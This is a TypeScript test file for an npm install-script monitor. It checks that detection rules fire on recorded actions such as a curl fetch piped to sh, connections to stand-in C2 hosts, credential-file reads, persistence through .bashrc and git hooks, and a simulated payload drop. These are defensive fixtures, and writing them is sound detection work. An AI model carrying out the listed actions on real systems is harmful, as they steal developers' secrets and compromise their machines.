// Records -> events, and parity with the strace tracer: the same actions seen
// through the preload fire the same rules (host facts and script as in
// test/rules: HOME /home/u, temp /tmp, resolver 10.0.0.53, pkg at PKG running
// `node setup.js` from a root shell, pid 100; node is pid 101).
import { describe, expect, it } from 'vitest';
import type { GuardedEvent, LifecycleScript } from '../../../src/events/types.js';
import { RuleContext } from '../../../src/rules/context.js';
import { Detector } from '../../../src/scoring/detector.js';
import { openFlags, parsePreloadLine, parseServer, recordToEvents, recordToInputs, startInfo, type PreloadRecord, type ProcessInfo } from '../../../src/tracers/preload/index.js';
import { evaluate, HOST, NODE, PKG, runStart, ScriptEmitter, Sequence, spec, T0 } from '../../rules/helpers.js';

const NODE_PID = 101;
const ROOT_PID = 100;

function asScript(s: ReturnType<typeof spec>): LifecycleScript {
  return { ...s, packageJson: `${s.path}/package.json`, shell: '/bin/sh', shimPid: 1, startedAt: T0 };
}

// A run as the proc tracer sees it: the shim's script-start, then only what
// the preload inside node (pid 101, child of the root shell) recorded.
class PreloadWorld {
  readonly ctx = new RuleContext(HOST);
  readonly seq = new Sequence();
  readonly spec = spec();
  readonly script = asScript(this.spec);
  readonly emitter = new ScriptEmitter(this.spec, this.seq, ROOT_PID);
  private self: ProcessInfo | undefined;
  private t = 0;
  readonly events: GuardedEvent[] = [];

  constructor() {
    this.feed(this.emitter.start());
    this.rec({ op: 'start', exe: NODE, argv0: 'node', argv: [NODE, `${PKG}/setup.js`], execArgv: [], cwd: PKG });
  }

  feed(event: GuardedEvent): string[] {
    this.events.push(event);
    return evaluate(this.ctx, event);
  }

  // Writes the record as the preload would, parses it back, feeds its events;
  // returns the rules that fired.
  rec(fields: Record<string, unknown>): string[] {
    const text = JSON.stringify({ t: T0 + 10 * ++this.t, pid: NODE_PID, ppid: ROOT_PID, script: this.script.id, ...fields });
    const r = parsePreloadLine(text);
    if (!r) throw new Error(`not a record: ${text}`);
    if (r.op === 'start') this.self = startInfo(r);
    const fired = new Set<string>();
    for (const event of recordToEvents(r, this.script, { ...(this.self ? { self: this.self } : {}), ancestry: [ROOT_PID] })) {
      event.event.sequence = this.seq.next();
      for (const id of this.feed(event)) fired.add(id);
    }
    return [...fired].sort();
  }
}

const P = (rel: string): string => `${PKG}/${rel}`;
const spawn = (exe: string, args: string[], extra: Record<string, unknown> = {}) => ({ op: 'spawn', call: 'spawn', file: exe, exe, args, cwd: PKG, child: 202, ...extra });
const connect = (ip: string, port: number, extra: Record<string, unknown> = {}) => ({ op: 'connect', call: 'net.connect', transport: 'tcp', ip, port, family: ip.includes(':') ? 6 : 4, ...extra });
const write = (path: string, flags: string | number = 'w') => ({ op: 'write', call: 'writeFileSync', path, flags });

type Case = [name: string, run: (w: PreloadWorld) => string[], rules: string[]];

const CASES: Case[] = [
  ['a shell spawned by node', (w) => w.rec(spawn('/bin/sh', ['/bin/sh', '-c', 'id'])), ['GI-PROC-001']],
  ['curl spawned by node', (w) => w.rec(spawn('/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.45/x'])), ['GI-PROC-002']],
  ['python3 spawned by node', (w) => w.rec(spawn('/usr/bin/python3', ['python3', '-c', '1'])), ['GI-PROC-003']],
  ['a file the script wrote in /tmp, executed', (w) => {
    expect(w.rec(write('/tmp/payload'))).toEqual(['GI-DROP-001']);
    return w.rec(spawn('/tmp/payload', ['/tmp/payload']));
  }, ['GI-PROC-004', 'GI-PROC-005']],
  ['a program in /tmp the script did not write', (w) => w.rec(spawn('/tmp/x/run', ['/tmp/x/run'])), ['GI-PROC-005']],
  ['npm publish', (w) => w.rec(spawn('/usr/bin/npm', ['npm', 'publish'])), ['GI-PROC-006']],
  ['a detached child (setsid)', (w) => w.rec(spawn('/usr/bin/true', ['true'], { detached: true })), ['GI-PROC-007']],
  ['a sync spawn of a shell (no pid)', (w) => w.rec(spawn('/bin/sh', ['/bin/sh', '-c', 'curl x | sh'], { call: 'execSync', sync: true, child: undefined })), ['GI-PROC-001']],
  ['tcp to a public address', (w) => w.rec(connect('203.0.113.45', 8443)), ['GI-NET-001']],
  ['tcp to a public IPv6 address by name', (w) => w.rec(connect('2606:4700:4700::1111', 443, { host: 'c2.example' })), ['GI-NET-001']],
  ['the metadata service', (w) => w.rec(connect('169.254.169.254', 80)), ['GI-NET-002']],
  ['a private address', (w) => w.rec(connect('192.168.1.10', 5432)), ['GI-NET-003']],
  ['a resolve through another resolver', (w) => w.rec({ op: 'dns', call: 'Resolver.resolveTxt', host: 'x.c2.example', rrtype: 'TXT', addresses: [], servers: ['8.8.8.8'] }), ['GI-NET-004']],
  ['a DNS query sent by hand to another resolver', (w) => w.rec({ op: 'dns', call: 'dgram.send', host: 'x.c2.example', addresses: [], servers: ['8.8.8.8:53'] }), ['GI-NET-004']],
  ['a udp connect to another resolver', (w) => w.rec({ op: 'connect', call: 'dgram.connect', transport: 'udp', ip: '8.8.8.8', port: 53, family: 4 }), ['GI-NET-001', 'GI-NET-004']],
  ['deleting the named install script', (w) => w.rec({ op: 'unlink', call: 'unlinkSync', path: P('setup.js') }), ['GI-CHURN-001']],
  ['rm of the named install script', (w) => w.rec({ op: 'rm', call: 'rmSync', path: P('setup.js'), recursive: true, dir: false }), ['GI-CHURN-001']],
  ['renaming the install script away', (w) => w.rec({ op: 'rename', call: 'renameSync', from: P('setup.js'), to: P('.setup.js.bak') }), ['GI-CHURN-001']],
  ['replacing package.json', (w) => w.rec({ op: 'rename', call: 'renameSync', from: P('package.md'), to: P('package.json') }), ['GI-CHURN-002', 'GI-CHURN-003']],
  ['deleting a shipped file', (w) => w.rec({ op: 'unlink', call: 'unlink', path: P('lib/a.js') }), ['GI-CHURN-003']],
  ['a file in a hidden home folder', (w) => w.rec(write('/home/u/.cache/x/agent')), ['GI-DROP-002']],
  ['appending to ~/.bashrc', (w) => w.rec({ ...write('/home/u/.bashrc', 'a'), call: 'appendFileSync' }), ['GI-PERSIST-001']],
  ['a CI workflow', (w) => w.rec(write('/proj/.github/workflows/x.yml')), ['GI-PERSIST-001']],
  ['a git hook', (w) => w.rec(write('/proj/.git/hooks/pre-commit')), ['GI-PERSIST-002']],
  ['reading ~/.npmrc', (w) => w.rec({ op: 'read', call: 'readFileSync', path: '/home/u/.npmrc' }), ['GI-CRED-001']],
  ['a failed read of an SSH key', (w) => w.rec({ op: 'read', call: 'readFileSync', path: '/home/u/.ssh/id_ed25519', error: 'ENOENT' }), ['GI-CRED-001']],
  ['a credential sweep', (w) => {
    w.rec({ op: 'read', path: '/home/u/.npmrc' });
    w.rec({ op: 'read', path: '/home/u/.aws/credentials' });
    return w.rec({ op: 'read', path: '/home/u/.config/gh/hosts.yml' });
  }, ['GI-CRED-001', 'GI-CRED-002']],
  ['writing into another package', (w) => w.rec(write('/proj/node_modules/other/index.js')), ['GI-XPKG-001']],
];

const QUIET: Case[] = [
  ['loopback', (w) => w.rec(connect('127.0.0.1', 8080, { host: 'localhost' })), []],
  ['a lookup', (w) => w.rec({ op: 'dns', call: 'lookup', host: 'registry.npmjs.org', addresses: ['104.16.0.35'] }), []],
  ['a failed delete of the install script', (w) => w.rec({ op: 'unlink', path: P('setup.js'), error: 'EACCES' }), []],
  ['a failed spawn of curl', (w) => w.rec(spawn('/usr/bin/curl', ['curl'], { child: undefined, error: 'ENOENT' })), []],
  ['build output made and cleaned in the package', (w) => {
    w.rec({ op: 'mkdir', call: 'mkdirSync', path: P('build/Release/obj'), recursive: true, first: P('build') });
    w.rec(write(P('build/Release/obj/a.o')));
    return w.rec({ op: 'unlink', path: P('build/Release/obj/a.o') });
  }, []],
  ['a read that is not a credential', (w) => w.rec({ op: 'read', path: '/proj/README' }), []],
  ['chmod +x (no event kind)', (w) => w.rec({ op: 'chmod', path: '/tmp/payload', mode: 0o755 }), []],
  ['the process exits', (w) => w.rec({ op: 'exit', code: 0 }), []],
];

describe('rule parity with the strace tracer', () => {
  it.each(CASES)('%s', (_name, run, rules) => {
    expect(run(new PreloadWorld())).toEqual(rules);
  });
  it.each(QUIET)('quiet: %s', (_name, run, rules) => {
    expect(run(new PreloadWorld())).toEqual(rules);
  });

  it('every event of the node process carries its executable, so its children know their parent is node', () => {
    const w = new PreloadWorld();
    w.rec(spawn('/bin/sh', ['/bin/sh', '-c', 'id']));
    const [start, child] = w.events.slice(1);
    expect(start).toMatchObject({ kind: 'process-start', process: { pid: NODE_PID, parent: { pid: ROOT_PID }, executable: NODE, name: 'node', args: ['node', `${PKG}/setup.js`], working_directory: PKG }, npm: { ancestry: [ROOT_PID] } });
    expect(child).toMatchObject({ kind: 'process-start', process: { pid: 202, parent: { pid: NODE_PID }, name: 'sh' }, npm: { ancestry: [NODE_PID, ROOT_PID] } });
    expect(w.ctx.executableOf(w.script.id, NODE_PID)).toBe(NODE);
  });

  it('the Axios pattern through the preload alone is critical, like through strace', () => {
    const w = new PreloadWorld();
    const AX = PKG;
    w.rec(connect('203.0.113.45', 8443, { host: 'sfrclak.example' }));
    w.rec(write('/tmp/.update-service'));
    w.rec({ op: 'chmod', path: '/tmp/.update-service', mode: 0o755 });
    w.rec(spawn('/tmp/.update-service', ['/tmp/.update-service'], { detached: true }));
    w.rec({ op: 'unlink', path: `${AX}/setup.js` });
    w.rec({ op: 'rename', from: `${AX}/package.md`, to: `${AX}/package.json` });
    w.rec({ op: 'exit', code: 0 });
    const detector = new Detector();
    detector.onEvent(runStart(new Sequence()));
    for (const e of w.events) detector.onEvent(e);
    const verdict = detector.verdicts().find((v) => v.name === 'pkg');
    expect(verdict?.score).toBe(100);
    expect(verdict?.composite?.id).toBe('GI-COMBO-001');
  });
});

describe('recordToInputs', () => {
  const base = { t: T0, pid: NODE_PID, ppid: ROOT_PID, script: 's1' };
  const inputs = (fields: Record<string, unknown>, ctx = {}) => recordToInputs(parsePreloadLine(JSON.stringify({ ...base, ...fields })) as PreloadRecord, ctx);

  it('mkdir -p reports each folder it made, top first', () => {
    expect(inputs({ op: 'mkdir', path: '/a/b/c/d', recursive: true, first: '/a/b' }).map((i) => 'file' in i && i.file.path)).toEqual(['/a/b', '/a/b/c', '/a/b/c/d']);
    expect(inputs({ op: 'mkdir', path: '/a/b', recursive: true, existed: true })).toEqual([]);
    expect(inputs({ op: 'mkdir', path: '/a/b', recursive: true, first: '/elsewhere' }).map((i) => 'file' in i && i.file.path)).toEqual(['/elsewhere', '/a/b']);
  });

  it('connects: the domain from the record, else from what was resolved; unix by path', () => {
    const named = inputs({ op: 'connect', transport: 'tcp', ip: '203.0.113.9', port: 443, family: 4 }, { domainFor: (ip: string) => (ip === '203.0.113.9' ? 'cdn.example' : undefined) });
    expect(named[0]).toMatchObject({ kind: 'network-connect', destination: { ip: '203.0.113.9', port: 443, address: '203.0.113.9', domain: 'cdn.example' }, network: { transport: 'tcp', type: 'ipv4' } });
    const unix = inputs({ op: 'connect', transport: 'unix', path: '/var/run/docker.sock', error: 'ECONNREFUSED' });
    expect(unix[0]).toMatchObject({ destination: { address: '/var/run/docker.sock' }, network: { transport: 'unix' }, syscall: { result: 'ECONNREFUSED' }, outcome: 'failure' });
  });

  it('lookups have no resolver address; resolves name theirs', () => {
    expect(inputs({ op: 'dns', host: 'x.example', addresses: [] })[0]).toMatchObject({ kind: 'dns-query', dns: { question: { name: 'x.example' } }, destination: { address: '' } });
    expect(inputs({ op: 'dns', host: 'x.example', addresses: [], rrtype: 'A', servers: ['[2001:db8::53]:5353'] })[0]).toMatchObject({ destination: { ip: '2001:db8::53', port: 5353 } });
  });

  it('exit: process-end with the code and uptime', () => {
    const self = { executable: NODE, args: ['node'], cwd: '/', startedAt: T0 - 1500 };
    expect(inputs({ op: 'exit', code: 3 }, { self })[0]).toMatchObject({ kind: 'process-end', process: { pid: NODE_PID, exit_code: 3, uptime_ms: 1500, executable: NODE } });
  });
});

describe('openFlags', () => {
  it.each([
    ['r', ['O_RDONLY']],
    ['w', ['O_WRONLY', 'O_CREAT', 'O_TRUNC']],
    ['wx+', ['O_RDWR', 'O_CREAT', 'O_TRUNC', 'O_EXCL']],
    ['as', ['O_WRONLY', 'O_CREAT', 'O_APPEND', 'O_SYNC']],
    ['bogus', []],
  ] as const)('%s', (flags, names) => {
    expect(openFlags(flags)).toEqual(names);
  });
  it('decodes numbers with this host\'s constants', () => {
    expect(openFlags(0)).toEqual(['O_RDONLY']);
    expect(openFlags(1 | 0o100 | 0o1000)).toEqual(['O_WRONLY', 'O_CREAT', 'O_TRUNC']); // Linux values
    expect(openFlags(2 | 0o2000)).toEqual(['O_RDWR', 'O_APPEND']);
  });
});

describe('parseServer', () => {
  it.each([
    ['8.8.8.8', { ip: '8.8.8.8', port: 53 }],
    ['127.0.0.1:5353', { ip: '127.0.0.1', port: 5353 }],
    ['2001:db8::1', { ip: '2001:db8::1', port: 53 }],
    ['[2001:db8::1]:53', { ip: '2001:db8::1', port: 53 }],
    ['resolver.example', undefined],
    ['1.2.3.4:99999', undefined],
  ] as const)('%s', (text, parsed) => {
    expect(parseServer(text)).toEqual(parsed);
  });
});
